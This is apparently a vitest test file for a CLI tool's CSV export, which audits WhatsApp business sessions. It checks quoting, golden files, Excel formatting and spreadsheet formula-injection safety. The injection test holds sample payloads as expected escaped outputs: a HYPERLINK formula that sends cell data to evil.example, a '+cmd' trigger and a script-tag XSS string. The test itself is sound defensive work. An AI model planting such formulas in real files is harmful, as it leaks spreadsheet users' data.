// CSV export end to end (`--format csv`): a file per list in a folder, one list with
// `--section`, `--excel` for Excel in Brazil, spreadsheet safety on an injection fixture, and
// golden files of the sample. Each file is read back with csv-parse, the reference parser.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { textCell } from '../src/render/csv.js';
import { cli } from './helpers/cli.js';

const tmp = mkdtempSync(join(tmpdir(), 'wa-audit-csv-'));
let n = 0;
const folder = (): string => join(tmp, `out-${++n}`);
const read = (path: string, delimiter = ','): string[][] => parse(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), { delimiter, relax_column_count: false }) as string[][];

describe('textCell: spreadsheet safety (OWASP) and RFC 4180 quoting', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "\"'\r=1\""],
    ['\n=1', "\"'\n=1\""],
    ['\0x', "'\0x"],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['plain', 'plain'],
  ])('%j is written %j', (value, written) => {
    expect(textCell(value)).toBe(written);
  });
});

describe('wa-audit audit --format csv', () => {
  it('writes a file per list into --out DIR, each with its schema\'s columns', () => {
    const dir = folder();
    const r = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--out', dir]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('');
    expect(readdirSync(dir).sort()).toEqual(['messages.csv', 'rejected.csv', 'sessions.csv', 'templates.csv', 'totals.csv', 'violations.csv']);
    const sessions = read(join(dir, 'sessions.csv'));
    expect(sessions[0]).toEqual(['id', 'business', 'contact', 'initiator', 'opened_at', 'expires_at', 'opened_by_type', 'charged', 'charged_message', 'replied_at', 'inbound', 'outbound', 'category', 'free_reason']);
    // The sample's counts (test/sample.test.ts): 99 sessions, 198 outbound messages, 45 violations, 4 rejected rows.
    expect(sessions.length - 1).toBe(99);
    expect(read(join(dir, 'messages.csv')).length - 1).toBe(198);
    expect(read(join(dir, 'violations.csv')).length - 1).toBe(45);
    expect(read(join(dir, 'rejected.csv')).length - 1).toBe(4);
  });

  it('matches the golden files of the sample (plain CSV never changes with the locale)', () => {
    const dir = folder();
    expect(cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--out', dir, '--locale', 'pt-BR']).code).toBe(0);
    const golden = 'test/golden/csv/sample';
    if (process.env.UPDATE_GOLDEN) {
      mkdirSync(golden, { recursive: true });
      for (const f of readdirSync(dir)) writeFileSync(join(golden, f), readFileSync(join(dir, f)));
      return;
    }
    expect(readdirSync(dir).sort()).toEqual(readdirSync(golden).sort());
    for (const f of readdirSync(dir)) expect(readFileSync(join(dir, f), 'utf8'), f).toBe(readFileSync(join(golden, f), 'utf8'));
  });

  it('--section prints one list, the same bytes as its file', () => {
    const dir = folder();
    cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--out', dir]);
    const r = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--section', 'violations']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(readFileSync(join(dir, 'violations.csv'), 'utf8'));
  });

  it('numbers and amounts wa-audit computes stay numbers; instants are ISO 8601 in --tz', () => {
    const r = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--section', 'totals', '--ruleset', 'meta', '--tz', 'America/Sao_Paulo', '--rates', 'rates/meta-usd-example.csv']);
    expect(r.stdout.split('\n').slice(0, 3)).toEqual([
      'month,business,market,charge_class,currency,charged,amount,unpriced',
      '2025-03,551140040001,BR,authentication,USD,5,0.034,0',
      '2025-03,551140040001,BR,marketing,USD,8,0.5,0',
    ]);
    const sessions = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--section', 'sessions', '--tz', 'America/Sao_Paulo']).stdout;
    expect(sessions.split('\n')[1]).toMatch(/^wamid\.A1\.2,551140040001,5511981000001,customer,2025-03-03T08:02:00-03:00,/);
  });

  it('--excel: UTF-8 with a BOM, ";", CRLF, wall times and a decimal comma', () => {
    const r = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--section', 'totals', '--excel', '--ruleset', 'meta', '--tz', 'America/Sao_Paulo', '--rates', 'rates/meta-usd-example.csv']);
    expect(r.stdout.startsWith('\uFEFFmonth;business;market;charge_class;currency;charged;amount;unpriced\r\n')).toBe(true);
    expect(r.stdout).toContain('2025-03;551140040001;BR;utility;USD;19;0,1292;0\r\n');
    const excel = cli(['audit', 'fixtures/sample.csv', '--format', 'csv', '--section', 'sessions', '--excel', '--tz', 'America/Sao_Paulo']).stdout;
    expect(excel.split('\r\n')[1]).toMatch(/^wamid\.A1\.2;551140040001;5511981000001;customer;2025-03-03 08:02:00;/);
  });

  it('every formula trigger from input data is neutralised, and every file parses back to its rows', () => {
    const dir = folder();
    expect(cli(['audit', 'fixtures/injection/log.csv', '--format', 'csv', '--out', dir]).code).toBe(0);
    let cells = 0;
    for (const f of readdirSync(dir)) {
      for (const row of read(join(dir, f)).slice(1)) {
        for (const c of row) {
          cells++;
          expect(c, `${f}: ${JSON.stringify(c)}`).not.toMatch(/^[=+\-@\t\r\n\0]/);
        }
      }
    }
    expect(cells).toBeGreaterThan(50);
    const templates = read(join(dir, 'templates.csv'));
    expect(templates.map((r) => r[5])).toEqual(['template', `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+SUM(1,2)", "'-2+3", "'=1", '<script>alert(1)</script> | @here #123 [x](http://evil.example)', 'line1\r\n=line2']);
    expect(templates.map((r) => r[0]).slice(1, 4)).toEqual(["'=1+1", "'+cmd", "'-2+3"]);
  });

  it('usage errors name what settles them', () => {
    expect(cli(['audit', 'fixtures/sample.csv', '--format', 'csv']).stderr).toBe(
      'wa-audit: --format csv writes a file per list: name a folder with --out DIR, or one list with --section NAME\n',
    );
    expect(cli(['audit', 'fixtures/sample.csv', '--section', 'totals']).stderr).toBe('wa-audit: --section is for --format csv\n');
    expect(cli(['audit', 'fixtures/sample.csv', '--format', 'json', '--excel']).code).toBe(2);
    expect(existsSync(join(tmp, 'never'))).toBe(false);
  });
});
